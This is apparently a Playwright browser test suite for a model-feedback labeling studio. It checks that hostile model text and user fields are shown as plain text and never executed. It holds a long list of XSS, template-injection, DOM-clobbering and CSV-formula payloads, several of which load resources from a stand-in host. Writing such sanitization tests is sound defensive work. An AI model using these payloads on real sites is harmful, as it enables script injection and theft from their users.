"""Model text is hostile: a corpus of payloads in every place text can come from, in a real browser.

Nothing may run, nothing may be requested from elsewhere, and what is shown must be exactly what was written.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page

from feedback.datasets import freeze
from feedback.store.labeling import matchups
from feedback.store.models import policies, runs
from feedback.types import Matchup, Policy, Run, RunState
from tests import factories
from tests.browser.conftest import Studio, lease_of, open_tab, press

pytestmark = pytest.mark.timeout(300)
OpenPage = Callable[..., Page]

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    '<img src="https://evil.invalid/pixel.png">',
    "<img srcset='https://evil.invalid/a.png 1x' src=x onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='https://evil.invalid/x.svg#a'/></svg>",
    "<math><mtext></p><style><img src=x onerror=window.pwned=1></style>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=https://evil.invalid/x></object><embed src=https://evil.invalid/y>",
    "<a href=javascript:window.pwned=1 autofocus onfocus=window.pwned=1>click</a>",
    "<a href='https://evil.invalid/'>a harmless link</a>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "<video><source onerror=window.pwned=1 src=https://evil.invalid/v.mp4></video>",
    "<audio src=https://evil.invalid/a.mp3 onerror=window.pwned=1></audio>",
    "<input autofocus onfocus=window.pwned=1>",
    "<form action=https://evil.invalid/><button>Send</button></form>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<div style=\"background:url('https://evil.invalid/b.png')\">styled</div>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "\"'><img src=x onerror=window.pwned=1>",
    "' onmouseover='window.pwned=1' x='",
    "</div></article></section><h1>broken out</h1>",
    "</textarea><script>window.pwned=1</script>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "${window.pwned=1}",
    "`${(()=>{window.pwned=1})()}`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{{value}}} {{#each this}}{{@key}}{{/each}} @children",
    "![x](https://evil.invalid/md.png) [x](javascript:window.pwned=1)",
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(\\unicode{x}\\)",
    "<pair data-lease=lea-of-somebody-else>",
    "javascript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "line one\n\n    line three <b>not bold</b>\n\ttabbed",
    "مرحبا <img src=x onerror=window.pwned=1> שלום",
    "=cmd|' /C calc'!A0",
    "<img/src=x/onerror=window.pwned=1>",
    "<img src=x oNeRrOr=\"window['pwned']=1\">",
    "<img src=x onerror\t=window.pwned=1>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>x</text></a></svg>",
    "<svg><image href='https://evil.invalid/i.svg' onload=window.pwned=1 /></svg>",
    "<math href='javascript:window.pwned=1'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>",
    "<noembed><img title='</noembed><img src=x onerror=window.pwned=1>'></noembed>",
    "<xmp><img src=x onerror=window.pwned=1></xmp><plaintext>",
    "<button popovertarget=x onbeforetoggle=window.pwned=1>Show</button><div popover id=x>x</div>",
    "<div contenteditable autofocus onfocus=window.pwned=1>x</div>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=window.pwned=1>x</b>",
    "<portal src=https://evil.invalid/></portal><fencedframe src=https://evil.invalid/></fencedframe>",
    "<img src=x:x onerror=eval(atob('d2luZG93LnB3bmVkPTE='))>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg=='>x</a>",
    "<a href='&#106;avascript:window.pwned=1'>x</a> <a href='java\tscript:window.pwned=1'>x</a>",
    "<script type=module>import 'https://evil.invalid/m.js'</script>",
    "<link rel=preload as=image href=https://evil.invalid/p.png><link rel=dns-prefetch href=//evil.invalid>",
    "<div id=pair class=pair data-lease=lea-forged><div class=model-text>forged</div></div>",
    "<form action=logout method=post><input type=submit autofocus></form>",
    "<input name=getElementById><img name=querySelector><form id=studio></form>",
    "</script><script>window.pwned=1</script>",
    "]]></style></title></noscript></iframe><img src=x onerror=window.pwned=1>",
    "[x](data:text/html,<script>parent.pwned=1</script>) <javascript:window.pwned=1> [y]: https://evil.invalid",
    "@import url(https://evil.invalid/x.css); }body{background:url(https://evil.invalid/b)}",
    "#{window.pwned=1} <%= window.pwned=1 %> {% window.pwned=1 %} [[${window.pwned=1}]]",
]


def listen(page: Page, studio: Studio) -> list[str]:
    """Collect what must not happen: dialogs, requests to elsewhere, navigations away."""
    happened: list[str] = []
    page.on("dialog", lambda dialog: (happened.append(f"dialog {dialog.message}"), dialog.dismiss()))
    local = (studio.url, "data:", "blob:")
    page.on("request", lambda sent: None if sent.url.startswith(local) else happened.append(f"request {sent.url}"))
    page.on("framenavigated", lambda frame: None if frame.url.startswith(studio.url) else happened.append(frame.url))
    return happened


def assert_harmless(page: Page, where: str, happened: list[str]) -> None:
    page.mouse.move(200, 300)
    assert page.evaluate("window.pwned") is None, where
    assert happened == [], where
    strange = "script,img,svg:not(button svg),iframe,object,embed,video,audio,form,style,link,base,a,input,b,math"
    panes = "#pair, #runs-table, #run-detail, #run-log, #policies-table, #policy-detail, #dataset-detail"
    found = page.evaluate(
        "([panes, tags]) => [...document.querySelectorAll(panes)].flatMap(p => [...p.querySelectorAll(tags)])"
        ".map(e => e.outerHTML)",
        [panes, strange],
    )
    assert found == [], where


def test_no_payload_acts_and_each_is_shown_as_written(studio: Studio, open_page: OpenPage, browser: Browser) -> None:
    policy = factories.make_policy(studio.db, "hostile")
    policies.promote_policy(studio.db, policy.id)
    for payload in PAYLOADS:
        prompt = factories.make_prompt(studio.db, f"asks: {payload}")
        factories.make_matchup(studio.db, policy=policy, prompt=prompt, texts=[f"one: {payload}", f"two: {payload}"])
    studio.start("--no-worker")
    context = browser.new_context()
    page = open_page(studio, context=context)
    happened = listen(page, studio)
    for number in range(len(PAYLOADS)):
        shown = [box.text_content() for box in page.locator("#pair .model-text").all()]
        payload = next(one for one in PAYLOADS if shown[0] == f"asks: {one}")
        assert sorted(shown[1:]) == [f"one: {payload}", f"two: {payload}"]
        assert page.locator("#pair [data-lease]").count() == 1, payload
        assert_harmless(page, payload, happened)
        if number < len(PAYLOADS) - 1:
            press(page, "1")
    context.close()


def test_payloads_in_datasets_runs_and_policies_are_text(studio: Studio, open_page: OpenPage, browser: Browser) -> None:
    everything = "\n".join(PAYLOADS)
    base = policies.save_policy(studio.db, Policy(name="base", base=everything, note=everything))
    policies.promote_policy(studio.db, base.id)
    for payload in PAYLOADS[:4]:
        prompt = factories.make_prompt(studio.db, f"asks: {payload}")
        factories.make_matchup(studio.db, policy=base, prompt=prompt, texts=[f"one: {payload}", f"other: {payload} !"])
    factories.judge_by(studio.db, factories.longer, annotator=everything[:500])
    dataset = freeze.freeze(studio.db, "hostile")
    run = runs.save_run(studio.db, Run(method="dpo", config={"dataset": dataset.name, everything[:300]: everything}))
    runs.transition_run(
        studio.db, run.id, expected=[RunState.queued], to=RunState.failed, error=everything, progress_text=everything
    )
    log = studio.home.log_path(run.id)
    log.parent.mkdir(parents=True)
    log.write_text(everything)
    child = policies.save_policy(studio.db, Policy(name="child", base=everything, parent_id=base.id, run_id=run.id))
    studio.start("--no-worker")
    context = browser.new_context()
    page = open_page(studio, context=context)
    happened = listen(page, studio)
    for tab, table, key, detail in (
        ("Train", "runs-table", run.id, "run-detail"),
        ("Policies", "policies-table", child.id, "policy-detail"),
        ("Datasets", "datasets-table", dataset.id, "dataset-detail"),
    ):
        open_tab(page, tab)
        page.locator(f"#{table} [data-pick='{key}']").click()
        page.wait_for_selector(f"#{detail} .detail")
        assert_harmless(page, tab, happened)
    open_tab(page, "Train")
    assert page.locator("#run-log pre").text_content() == everything
    assert everything in (page.locator("#run-detail .notice-bad").text_content() or "")
    context.close()


def test_a_refused_name_is_told_as_text(studio: Studio, open_page: OpenPage, browser: Browser) -> None:
    studio.start("--no-worker")
    context = browser.new_context()
    page = open_page(studio, context=context)
    happened = listen(page, studio)
    open_tab(page, "Datasets")
    page.locator("#dataset-name textarea").fill("<img src=x onerror=window.pwned=1>")
    page.locator("#freeze").click()
    toast = page.locator(".toast-body, .toast-text").first
    toast.wait_for()
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert happened == []
    assert "cannot name a dataset" in toast.inner_text()
    context.close()


def test_a_shown_lease_cannot_be_named_by_text(studio: Studio, open_page: OpenPage) -> None:
    """A reply that pretends to be another pair does not redirect the vote."""
    policy = factories.make_policy(studio.db, "hostile")
    policies.promote_policy(studio.db, policy.id)
    rows = factories.make_generations(
        studio.db, factories.make_prompt(studio.db), policy, ['<p data-lease="lea-forged">', "plain"]
    )
    matchups.save_matchups(studio.db, [Matchup(prompt_id=rows[0].prompt_id, generation_ids=[r.id for r in rows])])
    page = open_page(studio.start("--no-worker"))
    assert lease_of(page) != "lea-forged"
